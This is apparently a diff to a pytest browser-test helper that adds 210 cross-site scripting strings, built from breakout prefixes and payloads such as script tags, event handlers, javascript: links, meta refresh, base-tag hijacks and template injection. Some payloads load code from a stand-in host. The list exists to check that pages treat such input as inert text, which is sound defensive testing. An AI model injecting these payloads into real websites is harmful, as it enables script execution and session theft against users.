@@ -6,6 +6,7 @@ import os
 import shutil
 from collections.abc import Iterator
 from contextlib import contextmanager
+from itertools import product
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -24,6 +25,30 @@ _ARGUMENTS = (
     "--disable-component-update",
     "--disable-sync",
 )
+
+# Ways out of a text, an attribute, a style or a script, and what would be run there.
+_WAYS_OUT = (
+    "", "'>", '">', "`>", "</span>", "</p></div></section>", "</title>", "</style>", "</script>",
+    "-->", "]]>", "*/", "\u202e", "\0", "\r\n",
+)  # fmt: skip
+_RUNS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//example.invalid/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
+    "<style>body{background:url(http://example.invalid/x)}</style>",
+    "<meta http-equiv=refresh content='0;url=http://example.invalid/'>",
+    "<base href=http://example.invalid/><link rel=stylesheet href=x>",
+    "<form id=search action=//example.invalid><input autofocus onfocus=alert(1)></form>",
+    '" onmouseover=alert(1) style="background:url(//example.invalid/y)" x="',
+    "' autofocus onfocus=alert(1) x='",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
+    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
+)
+ATTACKS = tuple(way + run for way, run in product(_WAYS_OUT, _RUNS))
+"""210 texts that would do something if a page took any of them for more than text."""
 
 
 @contextmanager
@@ -64,5 +89,7 @@ class Watched:
     def assert_quiet(self) -> None:
         """Nothing was said, and nothing was asked for but the page itself."""
         assert self.complaints == []
-        assert all(url.partition("#")[0] == self.page.url.partition("#")[0] for url in self.requests)
+        assert all(
+            url.partition("#")[0] == self.page.url.partition("#")[0] for url in self.requests
+        )
         assert self.requests, "the page was not even loaded"
